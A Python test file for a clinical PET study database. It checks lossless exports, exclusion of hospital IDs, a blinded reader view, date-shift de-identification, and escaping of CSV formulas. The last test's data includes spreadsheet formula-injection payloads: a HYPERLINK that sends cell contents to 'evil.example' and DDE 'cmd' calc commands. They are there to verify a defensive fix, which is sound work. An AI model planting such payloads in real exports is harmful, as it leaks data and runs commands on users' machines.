"""Export (lossless round trip, REDCap dictionary, no identity) and the blinded reader view.
Runs on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import json
import re
from datetime import date, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest

from petdx.data_dictionary import TABLES, FieldType
from petdx.dicom import patient_date_offset_days
from petdx.errors import InputValidationError
from petdx.study.blinding import FORBIDDEN_TABLES, READER_COLUMNS, ReaderView
from petdx.study.config import StudyConfig, StudyFolder
from petdx.study.database import StudyDatabase, init_study, open_database
from petdx.study.exporting import REDCAP_COLUMNS, export_study
from petdx.study.importing import import_csv
from petdx.study.records import Author
from petdx.study.schema import IMPORTABLE
from tests.study.cohort import EXPOSURES, LESIONS, PATIENTS, SCREENING, write_csv

ME = Author("coordinator")
SENTINELS = {
    "pathology": ("histology_detail", "SENTINEL-PATHOLOGY-7731"),
    "reference_standard": ("basis", "SENTINEL-REFSTD-4410"),
    "follow_up": ("source", "SENTINEL-FOLLOWUP-9902"),
    "screening": ("investigator_reason", "SENTINEL-HISTORY-3318"),
    "exposures": ("description", "SENTINEL-EXPOSURE-5521"),
}


def _populate(database: StudyDatabase, folder: Path) -> None:
    screening = [dict(r) for r in SCREENING]
    screening[0]["investigator_reason"] = SENTINELS["screening"][1]
    exposures = [dict(EXPOSURES[0], description=SENTINELS["exposures"][1])]
    tables = {
        "patients": PATIENTS,
        "screening": screening,
        "exposures": exposures,
        "lesion_registry": LESIONS,
        "pathology": [
            {
                "sample_id": "S1",
                "patient_id": "SIM-0001",
                "lesion_id": "SIM-0001-L2",
                "sample_date": "2025-05-20",
                "method": "biopsy",
                "histology": "malignant",
                "histology_detail": SENTINELS["pathology"][1],
                "pdl1_assay": "22C3",
                "pdl1_tps_pct": "55",
                "pdl1_cps": "60",
            }
        ],
        "reference_standard": [
            {
                "lesion_id": "SIM-0001-L2",
                "patient_id": "SIM-0001",
                "standard": "histopathology",
                "outcome": "malignant",
                "assessment_date": "2025-05-20",
                "basis": SENTINELS["reference_standard"][1],
            }
        ],
        "reads": [
            {
                "reader_id": reader,
                "patient_id": "SIM-0001",
                "lesion_id": "SIM-0001-L2",
                "tracer": "ga68-dota-blp",
                "time_point_min": "60",
                "score": score,
                "call": "positive",
                "read_datetime": "2025-05-14T09:30:00",
            }
            for reader, score in (("R1", "5"), ("R2", "4"))
        ],
        "follow_up": [
            {
                "event_id": "F1",
                "patient_id": "SIM-0001",
                "event": "last_contact",
                "event_date": "2025-11-01",
                "source": SENTINELS["follow_up"][1],
            }
        ],
        "patient_identity": [{"patient_id": "SIM-0001", "hospital_id": "MRN-0001-XYZ"}],
    }
    for name, rows in tables.items():
        import_csv(database, name, write_csv(folder / f"{name}.csv", rows), author=ME)


def _export_of_a_copy(exported: Path, copy_root: Path, out: Path) -> None:
    """Import an export into a new SQLite study and export that study to ``out``."""
    copy = init_study(copy_root, StudyConfig(database_url="sqlite:///study.sqlite"))
    copy_db = open_database(copy)
    for name in IMPORTABLE:
        if name != "patient_identity":
            import_csv(copy_db, name, exported / f"{name}.csv", author=ME)
    export_study(copy, copy_db, out=out)
    copy_db.dispose()


def test_export_imports_back_unchanged(
    study: StudyFolder, database: StudyDatabase, tmp_path: Path
) -> None:
    _populate(database, tmp_path / "in")
    first = export_study(study, database, out=tmp_path / "out1")
    assert "patient_identity.csv" not in first.files
    _export_of_a_copy(tmp_path / "out1", tmp_path / "copy", tmp_path / "out2")
    for name in IMPORTABLE:
        if name != "patient_identity":
            assert (tmp_path / "out1" / f"{name}.csv").read_bytes() == (
                tmp_path / "out2" / f"{name}.csv"
            ).read_bytes(), name
    frame = pd.read_parquet(tmp_path / "out1" / "patients.parquet")
    assert list(frame["patient_id"]) == ["SIM-0001", "SIM-0002", "SIM-0003"]
    assert frame.loc[0, "weight_kg"] == 62.5
    exported = b"".join(p.read_bytes() for p in (tmp_path / "out1").iterdir())
    assert b"MRN-0001-XYZ" not in exported


def test_eligibility_and_redcap_dictionary(
    study: StudyFolder, database: StudyDatabase, tmp_path: Path
) -> None:
    _populate(database, tmp_path / "in")
    export_study(study, database, out=tmp_path / "out")
    with (tmp_path / "out" / "eligibility.csv").open() as handle:
        rows = {r["patient_id"]: r for r in csv.DictReader(handle)}
    assert rows["SIM-0001"]["enrolled"] == "true"
    assert rows["SIM-0002"]["failed_criteria"] == "no_recent_major_surgery"
    assert rows["SIM-0003"]["unknown_criteria"] == "age_18_or_over;written_consent"
    with (tmp_path / "out" / "redcap_data_dictionary.csv").open() as handle:
        reader = csv.DictReader(handle)
        assert tuple(reader.fieldnames or ()) == REDCAP_COLUMNS
        redcap = list(reader)
    names = [r["Variable / Field Name"] for r in redcap]
    assert names[0] == "patient_id"
    assert len(names) == len(set(names))
    sex = next(r for r in redcap if r["Variable / Field Name"] == "sex")
    assert (sex["Field Type"], sex["Choices, Calculations, OR Slider Labels"]) == (
        "dropdown",
        "M, M | F, F | O, O",
    )
    birth = next(r for r in redcap if r["Variable / Field Name"] == "birth_date")
    assert (birth["Text Validation Type OR Show Slider Number"], birth["Identifier?"]) == (
        "date_ymd",
        "y",
    )


def test_reader_queries_select_only_allowed_columns(database: StudyDatabase) -> None:
    with database.engine.connect() as connection:
        view = ReaderView(connection, "R1")
        for name, query in view.queries().items():
            for column in query.selected_columns:
                table = column.table.name  # type: ignore[attr-defined]
                assert table not in FORBIDDEN_TABLES, (name, table)
                assert column.name in READER_COLUMNS[table], (name, column.name)
    forbidden_fields = {"histology", "outcome", "pdl1_tps_pct", "pdl1_cps", "role", "standard"}
    assert not forbidden_fields & {c for cols in READER_COLUMNS.values() for c in cols}


def test_reader_view_leaks_nothing_and_hides_other_readers(
    database: StudyDatabase, tmp_path: Path
) -> None:
    _populate(database, tmp_path / "in")
    with database.engine.connect() as connection:
        view = ReaderView(connection, "R1")
        methods = [m for m in dir(view) if not m.startswith("_") and not m.endswith("_query")]
        assert set(methods) == {"worklist", "lesions", "own_reads", "queries", "reader_id"}
        results = {"worklist": view.worklist(), "lesions": view.lesions(), "own": view.own_reads()}
        results["one"] = view.lesions("SIM-0001")
    text = json.dumps(results, default=str)
    for _table, (_field, sentinel) in SENTINELS.items():
        assert sentinel not in text
    assert "malignant" not in text
    assert [r["reader_id"] for r in results["own"]] == ["R1"]
    assert [r["score"] for r in results["own"]] == [5]
    assert {r["lesion_id"] for r in results["lesions"]} == {"SIM-0001-L1", "SIM-0001-L2"}
    with pytest.raises(InputValidationError, match="reader id is empty"):
        ReaderView(connection, " ")


def test_reads_keep_patient_level_reads_apart(database: StudyDatabase, tmp_path: Path) -> None:
    _populate(database, tmp_path / "in")
    patient_level = {
        "reader_id": "R1",
        "patient_id": "SIM-0001",
        "lesion_id": "",
        "tracer": "ga68-dota-blp",
        "time_point_min": "60",
        "score": "3",
    }
    import_csv(database, "reads", write_csv(tmp_path / "r.csv", [patient_level]), author=ME)
    with database.engine.connect() as connection:
        reads = ReaderView(connection, "R1").own_reads()
    assert sorted((r["lesion_id"] or "", r["score"]) for r in reads) == [
        ("", 3),
        ("SIM-0001-L2", 5),
    ]


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _when(text: str) -> datetime:
    return datetime.fromisoformat(text)


def test_deidentified_export_moves_every_date_by_the_image_offset(
    study: StudyFolder, database: StudyDatabase, tmp_path: Path
) -> None:
    """--deidentify: every date and date-time column, and every ISO date inside the screening
    log's evidence, is the real one moved by the patient's image date offset
    (petdx.dicom.patient_date_offset_days, the one de-identified ingest applies); all other
    values are unchanged; the export imports into a new study whose screening decisions are
    the original's (intervals kept)."""
    _populate(database, tmp_path / "in")
    real = export_study(study, database, out=tmp_path / "real")
    deid = export_study(study, database, out=tmp_path / "deid", deidentify=True)
    assert deid.deidentified
    assert not real.deidentified
    assert deid.files == real.files
    secret = database.secret()
    shifted_values = 0
    for name in [*(n for n in IMPORTABLE if n != "patient_identity"), "visits"]:
        dated = {
            f.name
            for f in (TABLES[name].fields if name in TABLES else ())
            if f.type in (FieldType.DATE, FieldType.DATETIME)
        } | ({"injection_datetime"} if name == "visits" else set())
        before = _csv_rows(tmp_path / "real" / f"{name}.csv")
        after = _csv_rows(tmp_path / "deid" / f"{name}.csv")
        assert len(before) == len(after), name
        for row_real, row_deid in zip(before, after, strict=True):
            offset = timedelta(days=patient_date_offset_days(secret, row_real["patient_id"]))
            assert -3653 <= offset.days <= -365
            for column, value in row_real.items():
                if column in dated and value:
                    assert _when(row_deid[column]) == _when(value) + offset, (name, column)
                    shifted_values += 1
                else:
                    assert row_deid[column] == value, (name, column)
    assert shifted_values >= 20
    log_real = _csv_rows(tmp_path / "real" / "screening_log.csv")
    log_deid = _csv_rows(tmp_path / "deid" / "screening_log.csv")
    dates_in_evidence = 0
    iso = re.compile(r"\d{4}-\d{2}-\d{2}")
    for row_real, row_deid in zip(log_real, log_deid, strict=True):
        offset = timedelta(days=patient_date_offset_days(secret, row_real["patient_id"]))
        expected = [
            (date.fromisoformat(d) + offset).isoformat() for d in iso.findall(row_real["evidence"])
        ]
        assert iso.findall(row_deid["evidence"]) == expected
        dates_in_evidence += len(expected)
    assert dates_in_evidence >= 3
    _export_of_a_copy(tmp_path / "deid", tmp_path / "copy", tmp_path / "copy-out")
    assert (tmp_path / "copy-out" / "eligibility.csv").read_bytes() == (
        tmp_path / "real" / "eligibility.csv"
    ).read_bytes()
    verdicts = [(r["patient_id"], r["criterion_id"], r["verdict"]) for r in log_real]
    copied = _csv_rows(tmp_path / "copy-out" / "screening_log.csv")
    assert [(r["patient_id"], r["criterion_id"], r["verdict"]) for r in copied] == verdicts


#: Formula-leading text in free-text fields (issue 19): (table, field, value).
FORMULAS = (
    ("screening", "investigator_reason", '+HYPERLINK("http://evil.example/?x="&A1,"open")'),
    ("exposures", "description", "=cmd|' /C calc'!A0"),
    ("pathology", "histology_detail", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("reference_standard", "basis", "-2+3+cmd|' /C calc'!A0"),
    ("follow_up", "source", "=1+1"),
)


def test_csv_exports_neutralise_formulas_and_parquet_keeps_them_exact(
    study: StudyFolder, database: StudyDatabase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for table, field, value in FORMULAS:
        monkeypatch.setitem(SENTINELS, table, (field, value))
    _populate(database, tmp_path / "in")
    out = tmp_path / "out1"
    export_study(study, database, out=out)
    for table, field, value in FORMULAS:
        with (out / f"{table}.csv").open(newline="", encoding="utf-8") as handle:
            cells = [row[field] for row in csv.DictReader(handle) if row[field]]
        assert cells == ["'" + value], table
        parquet = [v for v in pd.read_parquet(out / f"{table}.parquet")[field] if v]
        assert parquet == [value], table
    # a negative number is a number, not a formula: unquoted in the CSV
    with (out / "lesion_registry.csv").open(newline="", encoding="utf-8") as handle:
        z = [row["centre_z_mm"] for row in csv.DictReader(handle)]
    assert z == ["-120.0", "-100.0"]
    assert list(pd.read_parquet(out / "lesion_registry.parquet")["centre_z_mm"]) == [-120, -100]
    # and the export imports back to the same values and the same files
    _export_of_a_copy(out, tmp_path / "copy", tmp_path / "out2")
    for table, _, _ in FORMULAS:
        assert (out / f"{table}.csv").read_bytes() == (
            tmp_path / "out2" / f"{table}.csv"
        ).read_bytes()
        assert pd.read_parquet(out / f"{table}.parquet").equals(
            pd.read_parquet(tmp_path / "out2" / f"{table}.parquet")
        )
